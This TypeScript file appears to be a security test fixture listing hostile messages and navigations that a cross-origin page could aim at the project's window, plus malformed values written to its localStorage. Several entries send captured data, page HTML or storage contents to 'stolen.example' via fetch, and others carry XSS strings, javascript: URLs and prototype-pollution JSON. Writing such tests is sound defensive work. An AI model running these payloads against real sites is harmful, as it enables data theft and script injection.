// What somebody does to a window with our page in it that they have opened and hold: they speak to it and to every frame in it, and lead it about. And
// what reaches a tab from its own origin without having been written by it.

export interface HostileMessage {
  name: string;
  /** Run in the page that holds the window: `ours` is the window, `all` it and every frame in it, OURS our address, PROJECT a shared project. */
  does: string;
  /** The title that stands in the window afterwards. */
  stands?: RegExp;
  /** It goes on while the visitor's Send is under way: until `window.enough`, and counts its `rounds`. */
  meanwhile?: true;
  /** Which wall holds this one, where it is played without it, and is noticed: what the visitor then sees, or what the ear then hears. */
  without?:
    | { wall: 'own wires'; sees: RegExp }
    | { wall: 'the page’s own voice'; heard: RegExp }
    | { wall: 'another origin'; heard: RegExp };
}

const SHAPES =
  "[null, undefined, 0, '', 'ready', [], {}, { kind: 'answered' }, { kind: 'answered', id: 1, end: 'closed', exited: null, unrecorded: null, log: {}, environ: null }, { kind: 'rows', rows: [[1e9]] }, { kind: 'died', why: 'exit', says: '<img src=x onerror=top.harmed=1>' }, { kind: 'checked', json: '{\"results\":[]}' }, { jsonrpc: '2.0', id: 1, result: null }, new Error('x'), new Map([[1, 2]])]";

/** From a page of another origin that has opened ours. */
export const held: readonly HostileMessage[] = [
  {
    name: 'says all that a process, a page and a helper say',
    does: `for (const one of all()) for (const said of ${SHAPES}) one.postMessage(said, '*')`,
  },
  {
    name: 'hands in wires of its own',
    does: "for (const one of all()) { const { port1, port2 } = new MessageChannel(); const more = new MessageChannel(); port1.onmessage = ({ data }) => fetch('http://stolen.example/' + JSON.stringify(data)); one.postMessage('onmessage = () => {}', '*', [port2, more.port2]); port1.postMessage({ kind: 'start' }) }",
  },
  {
    // The page, the hall and a room: from then on for a while.
    name: 'speaks to every room before the page does',
    does: "ours.location.replace('about:blank'); for (let blank = false; !blank; await new Promise((done) => setTimeout(done, 10))) try { blank = ours.document.URL === 'about:blank' } catch {} ours.location.replace('OURS#pass-through'); const code = 'onmessage = ({ ports: [wire] }) => wire.postMessage(\"inside\")'; await new Promise((done) => { let left = 200; const again = setInterval(() => { if (all().length > 2) left -= 1; for (const one of all()) { const wire = new MessageChannel(), trouble = new MessageChannel(); wire.port1.onmessage = ({ data }) => fetch('http://stolen.example/' + data); one.postMessage(code, '*', [wire.port2, trouble.port2]) } if (left === 0) { clearInterval(again); done() } }, 5) })",
    without: { wall: 'the page’s own voice', heard: /\/inside / },
  },
  {
    // By a worker's clock: the page stands behind ours, where its own is slow.
    name: 'answers in the place of Python',
    does: `const said = [{ kind: 'sent', bytes: new TextEncoder().encode('HTTP/1.1 200 OK\\r\\nContent-Length: 6\\r\\n\\r\\nforged') }, ...[1, 2, 3, 4].map((id) => ({ kind: 'answered', id, end: 'closed', exited: null, unrecorded: null, log: {}, environ: null, lacks: [] }))]; const clock = new Worker(URL.createObjectURL(new Blob(['setInterval(() => postMessage(0), 5)']))); for (window.rounds = 0; !window.enough; window.rounds += 1) { for (const one of all()) for (const part of said) one.postMessage(part, '*'); await new Promise((done) => { clock.onmessage = done }) } clock.terminate()`,
    meanwhile: true,
    without: { wall: 'own wires', sees: /no server process says|makes no sense|forged/ },
  },
  {
    name: 'says 100,000 things',
    does: "for (let n = 0; n < 100000; n += 1) ours.postMessage({ kind: 'answered', id: n, json: '[]' }, '*')",
  },
  {
    name: 'says something of 20 megabytes, and something 500 deep',
    does: "ours.postMessage(new Uint8Array(20_000_000), '*'); let deep = []; for (let n = 0; n < 500; n += 1) deep = [deep]; ours.postMessage(deep, '*')",
  },
  {
    name: 'says what would change every object',
    does: `const ill = JSON.parse('{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}},"kind":"__proto__"}'); for (const one of all()) one.postMessage(ill, '*')`,
  },
  {
    name: 'gives it a name that is HTML',
    does: "open('', 'theirs'); ours.focus(); open('OURS#pass-through', '<img src=x onerror=top.harmed=1>')?.close()",
  },
  {
    name: 'leads it to a script',
    does: "try { ours.location = 'javascript:top.harmed=1' } catch {}; try { ours.location.replace('data:text/html,<script>top.harmed=1</script>') } catch {}",
  },
  {
    name: 'leads the frames in it elsewhere',
    does: "for (const one of all()) if (one !== ours) { try { one.location = 'http://stolen.example/frame' } catch {} try { one.location.replace('http://stolen.example/frame') } catch {} }",
  },
  {
    name: 'reads what it can',
    does: "for (const one of all()) for (const read of [() => one.document.body.innerHTML, () => one.localStorage.getItem('onionskin'), () => one.location.href, () => one.harmed]) try { const got = read(); if (got) fetch('http://stolen.example/' + encodeURIComponent(got)) } catch {}",
    without: { wall: 'another origin', heard: /5f2c/ },
  },
  {
    name: 'leads it to a shared project, again and again',
    does: "for (let n = 0; n < 50; n += 1) { ours.location.replace('OURS#pass-through'); ours.location.replace('OURS#PROJECT') }",
    stands: /^Shared: A stranger’s$/,
  },
  {
    name: 'leads it to a thousand places',
    does: "for (let n = 0; n < 1000; n += 1) ours.location.replace('OURS#' + 'x'.repeat(n)); ours.location.replace('OURS#pass-through')",
  },
];

/** In the visitor's own tab: as if another tab of the same origin had written it. Each is the new text; `without` a look at its
 * shape it is noticed. */
export const written: readonly { name: string; value: string; without?: true }[] = [
  { name: 'nothing', value: 'null' },
  { name: 'no JSON', value: "'{'", without: true },
  { name: 'JSON of something else', value: "'[1, 2, 3]'", without: true },
  { name: 'a newer version', value: `'{"version":99,"works":{}}'` },
  {
    name: 'what would change every object',
    value: `'{"version":1,"__proto__":{"polluted":1},"works":{"__proto__":{"polluted":1}}}'`,
  },
  { name: 'five megabytes', value: "'x'.repeat(5_000_000)" },
  { name: 'HTML', value: "'<img src=x onerror=top.harmed=1>'" },
];
